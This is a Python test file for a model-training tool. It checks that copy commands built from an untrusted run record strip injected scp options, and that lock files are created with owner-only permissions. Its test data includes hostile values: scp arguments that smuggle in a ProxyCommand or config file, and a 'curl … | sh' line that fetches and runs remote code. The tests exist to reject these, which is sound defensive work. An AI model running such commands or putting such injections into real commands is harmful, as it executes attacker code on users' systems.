"""What the thirty-second review found."""

from __future__ import annotations

import json
import os
import stat
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from stoker.contract.names import Refusal
from stoker.speedrun import state
from stoker.training.checkpoint import folders
from stoker.training.data import build, ours
from stoker.training.generate.finding import find


def refusal_of(folder: Path, words: Any) -> str:
    """What `stoker chat FOLDER` prints where the record says that its files are on another host."""
    folder.mkdir()
    about = {"name": "evil", "plan": {"ranks": [{"rank": 0, "host": "gpu7"}]}, "apart": {"gpu7": words}}
    (folder / "run.json").write_text(json.dumps(about))
    ended = {"status": "completed", "cause": "completed", "summary": "", "exit_code": 0}
    (folder / "verdict.json").write_text(json.dumps(ended))
    with pytest.raises(Refusal) as refused:
        find(str(folder), None, str(folder.parent), print)
    return refused.value.line


@pytest.mark.parametrize(
    "words",
    [
        ["scp", "-r", "-F", "evil/ssh_config", "-P", "2222", "-i", "key", "me@gpu7:"],
        ["scp", "-r", "-oProxyCommand=sh evil/x", "-P", "2222", "-i", "key", "me@gpu7:"],
        ["scp", "-r", "-P", "2222", "-i", "key", "-S", "evil/x", "-D", "evil/x", "me@gpu7:"],
        ["scp", "-r", "-P", "-oProxyCommand=evil/x", "-i", "-Fevil/x", "-P", "2222", "-i", "key", "me@gpu7:"],
    ],
)
def test_a_strangers_record_puts_no_program_into_the_command_that_copies_a_model(
    tmp_path: Path, words: list[str]
) -> None:
    """`stoker chat evil` advised `scp -r -F evil/ssh_config …`, which starts the program that this file names."""
    folder = tmp_path / "evil"
    line = refusal_of(folder, words)
    copy = f"scp -r -P 2222 -i key me@gpu7:{folder}/hf {os.path.relpath(folder)}/"
    assert line.partition(" to copy the model: ")[2].partition("   # ")[0] == copy


@pytest.mark.parametrize(
    "words",
    [
        ["bash", "-c", "curl -s http://203.0.113.9/k | sh #"],
        ["scp", "-r", "-oProxyCommand=evil/x:"],
        ["scp", "-r"],
        ["scp", "-r", {"a": 1}],
        [],
        {},
        5,
        None,
        "abc",
    ],
)
def test_a_record_without_a_command_that_copies_is_one_line(tmp_path: Path, words: Any) -> None:
    line = refusal_of(tmp_path / "evil", words)
    assert line.endswith(f"its files are on host gpu7, in {tmp_path / 'evil'}")


def hold_cache(folder: str) -> None:
    with build.alone(os.path.join(folder, "key"), print):
        pass


def remember(folder: str) -> None:
    (Path(folder) / "data.txt").write_text("a text")
    os.utime(os.path.join(folder, "data.txt"), (1.0, 1.0))  # of one that may still be written nothing is kept
    ours.digest_files([os.path.join(folder, "data.txt")], folder, 1, print)


def hold_checkpoints(folder: str) -> None:
    held = folders.hold(folder, print)
    assert held is not None
    os.close(held)


def hold_speedrun(folder: str) -> None:
    os.close(state.hold(folder))


@pytest.mark.parametrize("left", [True, False], ids=["left by an earlier version", "new"])
@pytest.mark.parametrize(
    ("lock", "hold"),
    [
        ("key.lock", hold_cache),
        ("digests.json.lock", remember),
        (folders.LOCK, hold_checkpoints),
        (state.LOCK, hold_speedrun),
    ],
)
def test_who_may_only_read_a_folder_can_not_lock_it(
    tmp_path: Path, lock: str, hold: Callable[[str], None], left: bool
) -> None:
    """Another user opened `.writer` to read it, locked it, and the run was told that a process writes checkpoints there."""
    path = tmp_path / lock
    if left:
        path.touch()
        path.chmod(0o644)
    hold(str(tmp_path))
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
